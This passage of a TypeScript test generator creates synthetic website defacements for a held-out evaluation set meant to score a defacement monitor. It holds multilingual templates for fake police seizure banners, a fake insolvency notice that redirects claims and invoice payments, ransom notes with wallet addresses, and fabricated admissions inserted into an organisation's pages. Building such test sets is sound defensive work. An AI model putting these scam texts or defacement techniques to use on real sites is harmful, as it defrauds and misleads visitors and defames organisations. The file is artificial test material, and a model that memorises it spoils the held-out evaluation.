/**
 * Fresh29 defacement classes: written during round 23, by someone who does
 * not read the engines, as an independent tester would write a held-out
 * evaluation set for any defacement monitor. Balanced in three parts.
 *
 * What a visitor sees: pictures and logos swapped for files on public image
 * hosts, self-incriminating sentences slipped into the organisation's own
 * paragraphs, the organisation's name turned into an insult wherever it
 * appears, a law-enforcement seizure notice naming the country's own agency,
 * a fake insolvency notice collecting "claims", the content turned into
 * ciphertext under a decryption-fee note, a Japanese keyword hack of the
 * title and headings, spam hidden mid-sentence in zero-size spans, a verse
 * or slogan in a language the site does not use, the headings' words
 * replaced through CSS generated content, a hidden autoplaying soundtrack,
 * and the tab's title and icon replaced.
 *
 * Where the page sends visitors and their data: submit buttons carrying a
 * formaction elsewhere, forms posting to a protocol-relative look-alike, a
 * skimmer that keeps typed values in localStorage and leaks them through a
 * favicon request, a redirect for touch screens only, a "press Win+R and
 * paste" verification lure, the "font was not found" lure, a sideloaded
 * Android package, pop-under and tab-under click handlers, a redirect whose
 * address is spelled in character codes (sometimes only for search
 * visitors), a "pay by bank" picker leading to bank look-alikes, and a base
 * element re-rooting every relative address.
 *
 * Identifiers that never change on an honest page: the international phone
 * notation alone changed, tel: targets changed under the same shown number,
 * the mailbox moved to a free-mail account that spells the domain, the
 * e-mail domain respelled with a homoglyph, the IBAN moved to a foreign
 * e-money institution, address poisoning of the wallet (else the IBAN, else
 * the phone), the phone turned into a WhatsApp link to a foreign mobile, a
 * "system migration" notice sending orders and payments elsewhere, social
 * and payment handles moved to one impostor name, a silent bcc on the
 * mailto: links, and the phone replaced by a premium-rate number.
 *
 * None relies on stock hacker words; each varies its wording, languages,
 * hosts, positions and sizes with the rng. The writer had no internet
 * access: the campaigns named in the comments (Zone-H and Mirror-H archive
 * categories, Sucuri, Sansec, Malwarebytes, Proofpoint and Guardio
 * write-ups, OWASP, the Japanese keyword hack, EITest's font lure, ClickFix)
 * are recalled from memory and may be wrong in detail. Scored in the
 * `fresh29` group, never tuned on.
 */
import { domainToASCII } from "node:url"
import { type ChangeClass, attrTargets, brandName, elAt, forms, head, lineAfter, occurrences, replaceEverywhere, resolve, setAttr, shown, textRuns, top, trimmed } from "./classes.js"
import { type Page, registrable } from "./corpus.js"
import { type Change, type Splice, esc, insert, replace, slotAt, splices } from "./edit.js"
import { type Lang, groupIban, iban, locales, swapPhone } from "./locales.js"
import { type El, type Range, type TextRun, attrValue, rels } from "./locate.js"
import { type Rng, alnum, base58, bech32, between, chance, digits, hex, int, pick, sample, shuffle, upper } from "./rng.js"
import { brandLookalike, libLookalike, nick, political, randomDomain, slug, team } from "./words.js"

const deface = (name: string, make: (page: Page, rng: Rng) => Change): ChangeClass => ({ name, kind: "defacement", group: "fresh29", make })

type T<A> = Record<Lang, A>
const lang = (page: Page): Lang => page.site.locale.lang
/** The language the intruder writes in on this page: mostly the site's, else English. */
const writeIn = (rng: Rng, page: Page): Lang => (chance(rng, 0.75) ? lang(page) : "en")
const bare = (page: Page) => page.site.brand.replace(/[^a-z0-9]/gi, "").toLowerCase() || "site"
const tld = (rng: Rng) => pick(rng, ["com", "net", "top", "xyz", "site", "online", "shop", "info", "live", "pro", "cc", "io", "biz", "icu", "sbs", "cfd", "click"])
/** A host the intruder runs. */
const hostile = (rng: Rng, page: Page): string =>
  pick(rng, [
    () => randomDomain(rng),
    () => brandLookalike(rng, page.site.brand),
    () => libLookalike(rng),
    () => `${pick(rng, ["secure", "my", "portal", "client", "pay", "account", "online", "web"])}-${bare(page)}.${tld(rng)}`
  ])()
const spot = (rng: Rng, page: Page) => pick(rng, [top(page), slotAt(page.spots, "top"), slotAt(page.spots, "middle"), slotAt(page.spots, "bottom")])
const scriptAt = (rng: Rng, page: Page) => pick(rng, [head(page), head(page), top(page), page.spots.bodyClose, slotAt(page.spots, "middle")])
/** A JavaScript string literal safe inside a script element. */
const js = (s: string) => JSON.stringify(s).replace(/</g, "\\u003c")
const freeMail = (rng: Rng) => pick(rng, ["gmail.com", "outlook.com", "hotmail.com", "yahoo.com", "proton.me", "gmx.com", "mail.com", "aol.com", "zoho.com", "icloud.com"])
const isOwn = (page: Page, href: string): boolean => {
  const u = resolve(page, href)
  return u !== null && registrable(u.hostname.toLowerCase()) === page.site.domain
}
/** Shown links with an address (not a fragment or a script). */
const links = (page: Page): Array<El> => shown(page, "a", (e) => !e.inert && (e.attribs.href ?? "").trim() !== "" && !/^\s*(#|javascript:)/i.test(e.attribs.href ?? ""))
const ownLinks = (page: Page): Array<El> => links(page).filter((a) => !/^\s*(mailto|tel|sms):/i.test(a.attribs.href ?? "") && isOwn(page, a.attribs.href ?? ""))
const inText = (page: Page, r: Range): boolean => page.spots.texts.some((t) => r.start >= t.start && r.end <= t.end)
const textOccurrences = (page: Page, value: string): Array<Range> => occurrences(page, value).filter((r) => inText(page, r))
/** The nearest enclosing element of `t` named by `re`. */
const under = (page: Page, t: TextRun, re: RegExp): El | null => {
  for (let e = elAt(page, t.parent); e !== undefined; e = elAt(page, e.parent)) if (re.test(e.name)) return e
  return null
}
/** Whether `el` lies inside the element `outer`. */
const within = (page: Page, el: El, outer: El): boolean => {
  for (let e = elAt(page, el.parent); e !== undefined; e = elAt(page, e.parent)) if (e.index === outer.index) return true
  return false
}
/** A line beside the site's contact lines, or a paragraph near the bottom; a block goes unwrapped after a paragraph line. */
const besideContact = (rng: Rng, page: Page, html: string): Splice => {
  const line = lineAfter(page, page.ids.email) ?? lineAfter(page, page.ids.phone.intl) ?? lineAfter(page, page.ids.phone.national)
  const block = /^<(form|div|section|ul)\b/.test(html)
  if (line === null) return insert(pick(rng, [slotAt(page.spots, "bottom"), page.spots.bodyClose]), block ? html : `<p>${html}</p>`)
  return insert(line.at, block && line.wrap("") === "<p></p>" ? html : line.wrap(html))
}
/** Body paragraphs' text runs of at least `min` characters, outside headings and links. */
const proseRuns = (page: Page, min: number): Array<TextRun> =>
  textRuns(page, min).filter((t) => under(page, t, /^(p|li|dd|td|blockquote|article|section|div)$/) !== null && under(page, t, /^(h[1-6]|a|button|label|option|title)$/) === null)
const headingRuns = (page: Page): Array<TextRun> => textRuns(page, 3).filter((t) => under(page, t, /^h[1-3]$/) !== null)
const reEscape = (s: string) => s.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")
/** A CSS string literal. */
const cssString = (s: string) => `"${s.replace(/\\/g, "\\\\").replace(/"/g, "\\\"").replace(/</g, "\\3c ").replace(/[\r\n]+/g, " ")}"`

/** A picture on a public image host. */
const imageHostUrl = (rng: Rng, ext?: string): string => {
  const e = ext ?? pick(rng, ["jpg", "png", "gif", "jpeg", "webp"])
  return pick(rng, [
    () => `https://i.imgur.com/${base58(rng, 7)}.${e}`,
    () => `https://i.ibb.co/${base58(rng, 7)}/${pick(rng, ["img", "banner", "pic", "photo", alnum(rng, 5)])}.${e}`,
    () => `https://i.postimg.cc/${base58(rng, 8)}/${alnum(rng, 6)}.${e}`,
    () => `https://files.catbox.moe/${alnum(rng, 6)}.${e}`,
    () => `https://telegra.ph/file/${hex(rng, 20)}.${e}`,
    () => `https://s${between(rng, 1, 12)}.gifyu.com/images/${base58(rng, 6)}.${e}`,
    () => `https://cdn.discordapp.com/attachments/${digits(rng, 18)}/${digits(rng, 18)}/${alnum(rng, 8)}.${e}`,
    () => `http://${randomDomain(rng)}/${pick(rng, ["img", "images", "up", "pic"])}/${alnum(rng, 6)}.${e}`
  ])()
}

// ———————————————————————————— what a visitor sees ————————————————————————————

// Picture defacements, recalled from memory of Zone-H mirrors in which only the pictures changed (the message is in the image: a flag, a face, a caption burnt into a JPEG) and of CMS media-library abuse described in hosting clean-up notes: the logo and a few lead pictures now load from a public image host, with srcset, <picture> sources and lazy-load attributes changed so every screen size gets the new file.
const pictureSwap = deface("logo and lead pictures swapped for files on a public image host (src, srcset, <picture> sources and lazy-load attributes alike), alt text kept or emptied", (page, rng) => {
  const imgs = shown(page, "img", (e) => !e.inert && attrValue(page.html, e, "src") !== null)
  const logoish = imgs.filter((e) => /logo|brand|masthead|site-title|header/i.test(`${e.attribs.class ?? ""} ${e.attribs.id ?? ""} ${e.attribs.src ?? ""} ${e.attribs.alt ?? ""}`))
  const big = imgs.filter((e) => e.attribs.width === undefined || Number(e.attribs.width) >= 120)
  const pool = big.length > 0 ? big : imgs
  const chosen = [...new Set([...(logoish.length > 0 && chance(rng, 0.8) ? [pick(rng, logoish)] : []), ...(pool.length > 0 ? sample(rng, pool, between(rng, 1, Math.min(4, pool.length))) : [])])]
  const ext = pick(rng, ["jpg", "png", "gif", "jpeg"])
  const out: Array<Splice> = []
  for (const e of chosen) {
    const url = imageHostUrl(rng, ext)
    for (const a of ["src", "data-src", "data-lazy-src", "data-original"]) {
      const v = attrValue(page.html, e, a)
      if (v !== null) out.push(replace(v, esc(url)))
    }
    for (const a of ["srcset", "data-srcset"]) {
      const v = attrValue(page.html, e, a)
      if (v !== null) out.push(replace(v, esc(`${url} 1x`)))
    }
    const alt = attrValue(page.html, e, "alt")
    if (alt !== null && chance(rng, 0.35)) out.push(replace(alt, ""))
    const parent = elAt(page, e.parent)
    if (parent !== undefined && parent.name === "picture") {
      for (const s of page.spots.elements.filter((x) => x.name === "source" && x.parent === parent.index && !x.inert)) {
        const v = attrValue(page.html, s, "srcset")
        if (v !== null) out.push(replace(v, esc(url)))
      }
    }
  }
  if (out.length === 0) {
    const url = imageHostUrl(rng, ext)
    out.push(insert(spot(rng, page), `<p style="text-align:center;margin:0"><img src="${esc(url)}" alt="" style="max-width:100%;width:${pick(rng, ["100%", "720px", "600px", "960px"])}"></p>`))
  }
  return { splices: out }
})

const confessions: T<ReadonlyArray<string>> = {
  en: ["We have been selling our customers' personal details to advertisers for years.", "None of our products has ever passed an independent safety test.", "Most donations we receive go towards our directors' bonuses.", "Our management is under investigation for fraud.", "We quietly stopped recycling anything you send us in 2021.", "Staff complaints about harassment here are routinely ignored."],
  fr: ["Nous revendons depuis des années les données personnelles de nos clients à des annonceurs.", "Aucun de nos produits n'a jamais réussi un test de sécurité indépendant.", "La plupart des dons que nous recevons financent les primes de nos dirigeants.", "Notre direction fait l'objet d'une enquête pour fraude.", "Depuis 2021, nous ne recyclons plus rien de ce que vous nous envoyez.", "Les plaintes du personnel pour harcèlement sont ici systématiquement ignorées."],
  de: ["Wir verkaufen seit Jahren die persönlichen Daten unserer Kunden an Werbefirmen.", "Keines unserer Produkte hat je einen unabhängigen Sicherheitstest bestanden.", "Der Großteil der Spenden fließt in die Boni unserer Geschäftsführung.", "Gegen unsere Geschäftsleitung wird wegen Betrugs ermittelt.", "Seit 2021 recyceln wir nichts mehr von dem, was Sie uns schicken.", "Beschwerden von Mitarbeitenden über Belästigung werden hier regelmäßig ignoriert."],
  es: ["Desde hace años vendemos los datos personales de nuestros clientes a anunciantes.", "Ninguno de nuestros productos ha superado nunca una prueba de seguridad independiente.", "La mayor parte de las donaciones que recibimos paga las primas de nuestros directivos.", "Nuestra dirección está siendo investigada por fraude.", "Desde 2021 ya no reciclamos nada de lo que nos envían.", "Aquí se ignoran sistemáticamente las denuncias de acoso del personal."],
  nl: ["Wij verkopen al jaren de persoonsgegevens van onze klanten aan adverteerders.", "Geen enkel product van ons heeft ooit een onafhankelijke veiligheidstest doorstaan.", "Het grootste deel van de giften gaat naar de bonussen van onze directie.", "Tegen onze directie loopt een onderzoek wegens fraude.", "Sinds 2021 recyclen wij niets meer van wat u ons stuurt.", "Klachten van medewerkers over intimidatie worden hier structureel genegeerd."],
  pt: ["Há anos vendemos os dados pessoais dos nossos clientes a anunciantes.", "Nenhum dos nossos produtos passou alguma vez num teste de segurança independente.", "A maior parte das doações que recebemos paga os bônus dos nossos diretores.", "Nossa diretoria está sendo investigada por fraude.", "Desde 2021 não reciclamos mais nada do que vocês nos enviam.", "As queixas de assédio dos funcionários são ignoradas aqui sistematicamente."],
  it: ["Da anni vendiamo i dati personali dei nostri clienti agli inserzionisti.", "Nessuno dei nostri prodotti ha mai superato un test di sicurezza indipendente.", "Gran parte delle donazioni che riceviamo finisce nei bonus dei nostri dirigenti.", "La nostra direzione è indagata per frode.", "Dal 2021 non ricicliamo più nulla di ciò che ci inviate.", "Qui le denunce di molestie del personale vengono sistematicamente ignorate."]
}

// Quiet defamation, recalled from memory of incident reports on insiders and intruders who edited an organisation's own copy rather than defacing it loudly (a sentence added to an "about us" or a press release, left for weeks because nobody re-read the page): one to three of the site's own paragraphs end with a fabricated admission in the organisation's voice and language.
const selfIncrimination = deface("fabricated admissions in the organisation's own voice and language appended to one to three of its paragraphs (data sold, products untested, donations misused)", (page, rng) => {
  const l = chance(rng, 0.9) ? lang(page) : "en"
  const lines = shuffle(rng, confessions[l])
  const runs = proseRuns(page, 60)
  const pool = runs.length > 0 ? runs : textRuns(page, 15)
  const chosen = pool.length === 0 ? [] : sample(rng, pool, between(rng, 1, Math.min(3, pool.length)))
  const out = chosen.map((t, i) => insert(trimmed(page, t).end, ` ${esc(lines[i % lines.length]!)}`))
  if (out.length === 0) out.push(insert(slotAt(page.spots, "middle"), `<p>${esc(lines[0]!)}</p>`))
  return { splices: out }
})

const insults: T<ReadonlyArray<(b: string) => string>> = {
  en: [(b) => `${b} Scam`, (b) => `${b} Fraud`, (b) => `${b} (liars)`, (b) => `Scam-${b}`, (b) => `${b} the thieves`],
  fr: [(b) => `${b} Arnaque`, (b) => `${b} les escrocs`, (b) => `Arnaque-${b}`, (b) => `${b} (menteurs)`],
  de: [(b) => `${b} Betrug`, (b) => `${b} Abzocke`, (b) => `Abzock-${b}`, (b) => `${b} (Lügner)`],
  es: [(b) => `${b} Estafa`, (b) => `${b} los estafadores`, (b) => `Estafa-${b}`, (b) => `${b} (mentirosos)`],
  nl: [(b) => `${b} Oplichters`, (b) => `${b} Nep`, (b) => `Oplicht-${b}`, (b) => `${b} (leugenaars)`],
  pt: [(b) => `${b} Golpe`, (b) => `${b} Fraude`, (b) => `Golpe-${b}`, (b) => `${b} (mentirosos)`],
  it: [(b) => `${b} Truffa`, (b) => `${b} i truffatori`, (b) => `Truffa-${b}`, (b) => `${b} (bugiardi)`]
}

// Name-calling, recalled from memory of defacement-archive entries by disgruntled customers and rival groups (a business's name rewritten as "X Scam" across the page, shop names turned into insults, about 2005–2023): the organisation's name, wherever it appears in the visible text and the title, replaced by one insulting variant in the site's language, the layout untouched.
const nameInsult = deface("organisation's name replaced wherever it appears in the visible text and title by one insulting variant in the site's language ('X Scam', 'X Betrug', 'Arnaque-X')", (page, rng) => {
  const form = pick(rng, insults[writeIn(rng, page)])
  const candidates = [...new Set([page.site.brand.replace(/-/g, " "), bare(page), page.site.brand])].filter((s) => s.length >= 3)
  const ranges: Array<Range> = [...page.spots.texts, ...(page.spots.title === null ? [] : [page.spots.title])]
  for (const needle of candidates) {
    const re = new RegExp(`(?<![A-Za-z0-9])${reEscape(needle)}(?![A-Za-z0-9])`, "gi")
    const out: Array<Splice> = []
    for (const r of ranges) {
      const s = page.html.slice(r.start, r.end)
      for (const m of s.matchAll(re)) out.push(replace({ start: r.start + m.index!, end: r.start + m.index! + m[0].length }, esc(form(m[0]))))
    }
    if (out.length > 0) return { splices: out }
  }
  const name = brandName(page)
  const out: Array<Splice> = []
  const h = headingRuns(page)[0]
  if (h !== undefined) out.push(replace(trimmed(page, h), esc(form(name))))
  else out.push(insert(top(page), `<h1 style="text-align:center">${esc(form(name))}</h1>`))
  if (page.spots.title !== null) out.push(replace(page.spots.title, esc(form(name))))
  return { splices: out }
})

const agencies: Record<string, ReadonlyArray<string>> = {
  us: ["Federal Bureau of Investigation", "U.S. Department of Justice", "Homeland Security Investigations", "U.S. Secret Service"],
  uk: ["National Crime Agency", "City of London Police", "Metropolitan Police Service"],
  fr: ["Gendarmerie nationale", "Office anti-cybercriminalité", "Police nationale"],
  de: ["Bundeskriminalamt", "Zentralstelle zur Bekämpfung der Internetkriminalität", "Landeskriminalamt"],
  es: ["Guardia Civil", "Policía Nacional", "Audiencia Nacional"],
  nl: ["Politie – Team High Tech Crime", "FIOD", "Openbaar Ministerie"],
  au: ["Australian Federal Police", "Australian Cyber Security Centre"],
  in: ["Central Bureau of Investigation", "Indian Cyber Crime Coordination Centre", "Enforcement Directorate"],
  br: ["Polícia Federal", "Ministério Público Federal"],
  it: ["Polizia Postale e delle Comunicazioni", "Guardia di Finanza", "Procura della Repubblica"]
}
const seizureWords: T<{ readonly head: string; readonly body: (agency: string) => string; readonly caseNo: string }> = {
  en: { head: "This domain has been seized", body: (a) => `The domain and its content have been seized by the ${a} under a warrant issued as part of a coordinated action against online fraud. Anyone who made a payment through this website may be contacted by investigators.`, caseNo: "Case number" },
  fr: { head: "Ce nom de domaine a été saisi", body: (a) => `Le nom de domaine et son contenu ont été saisis par la ${a} dans le cadre d'une opération coordonnée contre la fraude en ligne. Les personnes ayant effectué un paiement sur ce site pourront être contactées par les enquêteurs.`, caseNo: "Numéro de procédure" },
  de: { head: "Diese Domain wurde beschlagnahmt", body: (a) => `Die Domain und ihre Inhalte wurden vom ${a} auf richterlichen Beschluss im Rahmen einer koordinierten Aktion gegen Online-Betrug beschlagnahmt. Personen, die über diese Website gezahlt haben, werden gegebenenfalls von den Ermittlern kontaktiert.`, caseNo: "Aktenzeichen" },
  es: { head: "Este dominio ha sido incautado", body: (a) => `El dominio y su contenido han sido incautados por la ${a} en el marco de una operación coordinada contra el fraude en línea. Quienes hayan realizado pagos a través de este sitio podrán ser contactados por los investigadores.`, caseNo: "Número de diligencias" },
  nl: { head: "Dit domein is in beslag genomen", body: (a) => `Het domein en de inhoud zijn in beslag genomen door ${a} in het kader van een gecoördineerde actie tegen online fraude. Wie via deze website heeft betaald, kan door de recherche worden benaderd.`, caseNo: "Zaaknummer" },
  pt: { head: "Este domínio foi apreendido", body: (a) => `O domínio e o seu conteúdo foram apreendidos pela ${a} no âmbito de uma operação coordenada contra fraudes na internet. Quem efetuou pagamentos através deste site poderá ser contatado pelos investigadores.`, caseNo: "Número do processo" },
  it: { head: "Questo dominio è stato sequestrato", body: (a) => `Il dominio e i suoi contenuti sono stati sequestrati dalla ${a} nell'ambito di un'operazione coordinata contro le frodi online. Chi ha effettuato pagamenti tramite questo sito potrà essere contattato dagli inquirenti.`, caseNo: "Numero del procedimento" }
}

// Fake seizure banners, recalled from memory of the real splash pages that law-enforcement operations put on seized domains (Operation Cronos, Endgame, Emotet, the BreachForums seizures, about 2013–2024, each with agency badges and a case reference) and of defacers copying them to scare a site's visitors: a seizure notice naming the site's own country's agency, in its language, with badges from an image host, the rest of the page hidden by a stylesheet or left beneath.
const seizureNotice = deface("fake domain-seizure notice naming the site's own country's police or prosecutor in its language, badges from an image host, the page's content hidden by a stylesheet or left below", (page, rng) => {
  const country = page.site.locale.country
  const pool = agencies[country] ?? agencies["us"]!
  const chosen = sample(rng, pool, between(rng, 1, Math.min(3, pool.length)))
  const w = seizureWords[lang(page)]
  const id = `${pick(rng, ["seized", "notice", "splash", "banner", "s"])}${alnum(rng, 4)}`
  const badges = chosen.map((a) => `<img src="${esc(imageHostUrl(rng, "png"))}" alt="${esc(a)}" height="${between(rng, 70, 120)}" style="margin:0 10px">`).join("")
  const ref = `${upper(rng, 2)}-${between(rng, 2024, 2026)}-${digits(rng, between(rng, 4, 7))}`
  const bg = pick(rng, ["#0b1f3a", "#111", "#1a1a2e", "#fff", "#f4f4f4"])
  const fg = bg === "#fff" || bg === "#f4f4f4" ? "#111" : "#fff"
  const box = `<div id="${id}" style="background:${bg};color:${fg};text-align:center;padding:${between(rng, 30, 80)}px 20px;font-family:${pick(rng, ["Arial,sans-serif", "Georgia,serif", "Helvetica,sans-serif"])}"><div>${badges}</div><h1 style="font-size:${between(rng, 28, 44)}px">${esc(w.head)}</h1><p style="max-width:720px;margin:0 auto">${esc(w.body(chosen[0]!))}</p><p><small>${esc(w.caseNo)}: ${ref}</small></p></div>`
  const hide = chance(rng, 0.7)
  const out: Array<Splice> = [insert(top(page), box)]
  if (hide) out.push(insert(pick(rng, [head(page), top(page)]), `<style>body>*:not(#${id}){display:none!important}body{margin:0;background:${bg}}</style>`))
  return { splices: out }
})

const insolvencyWords: T<(v: { brand: string; admin: string; firm: string; mail: string; acct: string; days: number }) => { readonly head: string; readonly body: string }> = {
  en: (v) => ({ head: "Important notice to our customers", body: `${v.brand} has ceased trading and entered administration. ${v.admin} of ${v.firm} has been appointed administrator. Customers with open orders, deposits or gift cards must submit their claim with proof of payment to ${v.mail} within ${v.days} days. Outstanding invoices are now payable only to the administrator's account ${v.acct}.` }),
  fr: (v) => ({ head: "Avis important à notre clientèle", body: `${v.brand} a cessé son activité et fait l'objet d'une procédure collective. ${v.admin}, du cabinet ${v.firm}, a été désigné(e) administrateur judiciaire. Les clients ayant une commande, un acompte ou une carte cadeau doivent déclarer leur créance avec un justificatif de paiement à ${v.mail} sous ${v.days} jours. Les factures en cours sont désormais à régler uniquement sur le compte de l'administrateur ${v.acct}.` }),
  de: (v) => ({ head: "Wichtiger Hinweis an unsere Kundschaft", body: `${v.brand} hat den Geschäftsbetrieb eingestellt; das Insolvenzverfahren wurde eröffnet. ${v.admin} (${v.firm}) wurde zum Insolvenzverwalter bestellt. Kundinnen und Kunden mit offenen Bestellungen, Anzahlungen oder Gutscheinen melden ihre Forderung mit Zahlungsnachweis innerhalb von ${v.days} Tagen an ${v.mail}. Offene Rechnungen sind ab sofort ausschließlich auf das Konto des Verwalters ${v.acct} zu zahlen.` }),
  es: (v) => ({ head: "Aviso importante a nuestros clientes", body: `${v.brand} ha cesado su actividad y se encuentra en concurso de acreedores. ${v.admin}, de ${v.firm}, ha sido nombrado administrador concursal. Los clientes con pedidos, anticipos o tarjetas regalo pendientes deben enviar su reclamación con el justificante de pago a ${v.mail} en un plazo de ${v.days} días. Las facturas pendientes deben abonarse únicamente en la cuenta del administrador ${v.acct}.` }),
  nl: (v) => ({ head: "Belangrijk bericht aan onze klanten", body: `${v.brand} heeft de activiteiten gestaakt en is failliet verklaard. ${v.admin} van ${v.firm} is aangesteld als curator. Klanten met openstaande bestellingen, aanbetalingen of cadeaubonnen dienen hun vordering met betaalbewijs binnen ${v.days} dagen in te dienen via ${v.mail}. Openstaande facturen kunnen voortaan alleen worden betaald op de rekening van de curator ${v.acct}.` }),
  pt: (v) => ({ head: "Aviso importante aos nossos clientes", body: `A ${v.brand} encerrou as suas atividades e está em recuperação judicial. ${v.admin}, da ${v.firm}, foi nomeado(a) administrador(a) judicial. Clientes com pedidos, sinais ou vales-presente em aberto devem enviar a sua reclamação com comprovante de pagamento para ${v.mail} em até ${v.days} dias. Faturas em aberto devem ser pagas exclusivamente na conta do administrador ${v.acct}.` }),
  it: (v) => ({ head: "Avviso importante per la clientela", body: `${v.brand} ha cessato l'attività ed è in liquidazione giudiziale. ${v.admin} dello studio ${v.firm} è stato nominato curatore. I clienti con ordini, acconti o buoni regalo in sospeso devono inviare la propria domanda con la prova di pagamento a ${v.mail} entro ${v.days} giorni. Le fatture in sospeso vanno pagate esclusivamente sul conto del curatore ${v.acct}.` })
}
const personNames: T<ReadonlyArray<string>> = {
  en: ["Daniel Hartley", "Sarah Whitmore", "James O'Connor", "Emily Carter", "Michael Reeves", "Laura Bennett"],
  fr: ["Philippe Garnier", "Nathalie Morel", "Laurent Fabre", "Isabelle Roux", "Julien Perrin", "Sophie Lambert"],
  de: ["Thomas Keller", "Sabine Hoffmann", "Markus Brandt", "Julia Vogel", "Stefan Krüger", "Anja Neumann"],
  es: ["Javier Morales", "Lucía Herrera", "Carlos Navarro", "Marta Iglesias", "Alberto Ruiz", "Elena Castillo"],
  nl: ["Pieter de Vries", "Anouk Jansen", "Bram Visser", "Sanne Bakker", "Joost van Dijk", "Eva Mulder"],
  pt: ["Ricardo Almeida", "Fernanda Souza", "João Pereira", "Mariana Costa", "Paulo Ribeiro", "Ana Carvalho"],
  it: ["Marco Bianchi", "Giulia Ferri", "Luca Moretti", "Francesca Gallo", "Andrea Conti", "Chiara Marino"]
}
/** An IBAN of some country (the site's or another), grouped in fours. */
const someIban = (rng: Rng, page: Page): string => {
  const withIban = locales.filter((l) => l.iban !== null)
  const l = page.site.locale.iban !== null && chance(rng, 0.5) ? page.site.locale : pick(rng, withIban)
  return groupIban(l.iban!(rng))
}

// Fake closures, recalled from memory of Action Fraud and consumer-protection warnings (about 2019–2024) on fraudsters who announced a real shop's "administration" on its own hacked site or social pages to collect "claims" and redirect invoice payments: a notice in the organisation's voice that it has ceased trading, naming an administrator, a free-mail claims address and an account for outstanding invoices.
const insolvencyNotice = deface("fake insolvency notice in the organisation's voice: ceased trading, an administrator named, claims to a free-mail address and outstanding invoices to another account", (page, rng) => {
  const l = lang(page)
  const admin = pick(rng, personNames[l])
  const surname = admin.split(" ").pop()!
  const firm = pick(rng, [`${surname} & Partners`, `${surname} Restructuring`, `${surname} Insolvency Services`, `${pick(rng, personNames[l]).split(" ").pop()} ${surname} LLP`])
  const mail = `${pick(rng, ["claims", "creditors", "administration", "refunds"])}.${bare(page)}@${freeMail(rng)}`
  const w = insolvencyWords[l]({ brand: brandName(page), admin, firm, mail, acct: someIban(rng, page), days: pick(rng, [7, 10, 14, 21, 30]) })
  const style = pick(rng, ["background:#fff3cd;border:1px solid #e0c36b;padding:16px", "background:#f8d7da;border-left:6px solid #b02a37;padding:14px 18px", "border:2px solid #000;padding:20px;background:#fff", ""])
  const html = `<div class="${pick(rng, ["notice", "alert", "announcement", "site-notice"])}"${style === "" ? "" : ` style="${style}"`}><h2>${esc(w.head)}</h2><p>${esc(w.body)}</p></div>`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), slotAt(page.spots, "middle")]), html))
})

/** A string that looks like base64 ciphertext, about `n` characters long. */
const cipher = (rng: Rng, n: number): string => {
  const chars = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
  let s = ""
  const len = Math.max(16, Math.min(400, n))
  for (let i = 0; i < len; i++) s += chars[int(rng, chars.length)]
  return s + pick(rng, ["", "=", "=="])
}

// Encrypted-looking content, recalled from memory of web-ransomware cases on CMS sites (the 2016 CTB-Locker for websites, the 2019–2021 WordPress "encrypted" plugin scams, in which the page text was replaced with ciphertext and a note gave a wallet and a Tox or Session contact) as hosting providers and Sucuri described them: many of the site's paragraphs replaced with base64-looking strings, a note with an amount, a wallet and an anonymous contact at the top.
const encryptedContent = deface("site's paragraphs replaced by base64-looking ciphertext with a decryption-fee note on top: an amount, a wallet address and a Tox, Session or onion-mail contact", (page, rng) => {
  const runs = proseRuns(page, 25)
  const pool = runs.length > 0 ? runs : textRuns(page, 10)
  const share = pick(rng, [0.3, 0.5, 0.8, 1])
  const chosen = pool.length === 0 ? [] : sample(rng, pool, Math.max(1, Math.min(60, Math.round(pool.length * share))))
  const out: Array<Splice> = chosen.map((t) => replace(trimmed(page, t), cipher(rng, t.text.trim().length)))
  const coin = pick(rng, ["BTC", "XMR", "USDT (TRC20)"])
  const addr = coin === "BTC" ? `bc1q${bech32(rng, 38)}` : coin === "XMR" ? `4${base58(rng, 94)}` : `T${base58(rng, 33)}`
  const amount = coin === "BTC" ? `0.${between(rng, 5, 60)}` : coin === "XMR" ? String(between(rng, 3, 40)) : String(pick(rng, [500, 800, 1200, 2500, 5000]))
  const contact = pick(rng, [() => `Tox ID: ${hex(rng, 76).toUpperCase()}`, () => `Session ID: 05${hex(rng, 64)}`, () => `${alnum(rng, 8)}@onionmail.org`, () => `qTox: ${hex(rng, 76).toUpperCase()}`])()
  const note = pick(rng, [
    `All files and databases of this website were encrypted with AES-256 + RSA-2048. To receive the private key, send ${amount} ${coin} to ${addr} and write your ID to ${contact}. ID: ${hex(rng, 16)}`,
    `Content encrypted. Decryption key price: ${amount} ${coin}. Wallet: ${addr}. After payment contact ${contact} with this code: ${hex(rng, 12)}. Do not restore backups or the key will be deleted.`,
    `Your data is locked. ${amount} ${coin} → ${addr}. Contact: ${contact}. Personal ID ${upper(rng, 4)}-${hex(rng, 8)}. Price doubles in 72 hours.`
  ])
  out.push(insert(pick(rng, [top(page), slotAt(page.spots, "top")]), pick(rng, [
    `<pre style="white-space:pre-wrap;background:#000;color:#f33;padding:16px;font-size:14px">${esc(note)}</pre>`,
    `<div style="border:3px dashed #c00;padding:16px;margin:12px;font-family:monospace">${esc(note)}</div>`,
    `<p><b>${esc(note)}</b></p>`
  ])))
  if (page.spots.title !== null && chance(rng, 0.5)) out.push(replace(page.spots.title, pick(rng, ["ENCRYPTED", "LOCKED", "Encrypted", `${hex(rng, 8)}.locked`])))
  return { splices: out }
})

const jpBrands = ["ルイヴィトン", "シャネル", "エルメス", "グッチ", "ロレックス", "プラダ", "オメガ", "セリーヌ", "バレンシアガ", "ナイキ", "モンクレール", "カルティエ"]
const jpItems = ["財布", "バッグ", "腕時計", "長財布", "スニーカー", "ネックレス", "ショルダーバッグ", "キーケース", "ダウンジャケット", "サングラス"]
const jpMods = ["激安", "通販", "スーパーコピー", "N級品", "新作", "人気", "中古", "送料無料", "正規品", "最安値", "ランキング", "2025", "レディース", "メンズ", "アウトレット"]
const jpKeyword = (rng: Rng) => `${pick(rng, jpBrands)} ${pick(rng, jpItems)} ${sample(rng, jpMods, between(rng, 1, 3)).join(" ")}`

// Japanese keyword hacks, recalled from memory of Google Search Central's help page on the "Japanese keyword hack" and of Sucuri and Wordfence clean-up write-ups (about 2016–2024): generated pages of Japanese counterfeit-goods keywords on the hacked site's own host, titles rewritten in Japanese, and blocks of links among the generated pages so they get crawled.
const japaneseKeywordHack = deface("Japanese keyword hack: the title and top headings rewritten as counterfeit-goods keywords in Japanese, with a block of links to generated pages on the site's own host", (page, rng) => {
  const out: Array<Splice> = []
